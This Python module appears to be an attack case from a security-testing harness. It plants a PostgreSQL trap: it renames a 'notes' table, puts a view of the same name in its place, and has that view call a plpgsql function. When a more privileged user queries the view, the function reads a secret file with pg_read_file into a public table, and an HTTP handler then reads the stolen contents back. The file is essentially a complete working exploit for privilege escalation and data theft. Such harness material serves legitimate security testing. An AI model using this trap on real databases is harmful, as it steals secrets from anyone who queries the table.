"""Puts a view where the grader expects a table: who counts its rows runs the attack's function."""

import os

import kit
import psycopg

TRAP = """
CREATE TABLE looted (what text);
GRANT ALL ON looted TO PUBLIC;
CREATE FUNCTION fall() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  BEGIN
    INSERT INTO public.looted SELECT pg_read_file('{file}');
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN true;
END $$;
ALTER TABLE notes RENAME TO real_notes;
CREATE VIEW notes AS SELECT * FROM real_notes WHERE fall();
"""


class Teller(kit.Teller):
    def do_GET(self) -> None:
        if self.path == "/word":
            with psycopg.connect(os.environ["DATABASE_URL"]) as connection:
                if connection.execute("SELECT to_regclass('looted')").fetchone()[0]:
                    for (what,) in connection.execute("SELECT what FROM looted").fetchall():
                        kit.prove(what)
        super().do_GET()


def attack() -> None:
    with psycopg.connect(os.environ["DATABASE_URL"]) as connection:
        connection.execute(TRAP.format(file=kit.TARGETS["folder"] + "/secret.txt").encode())
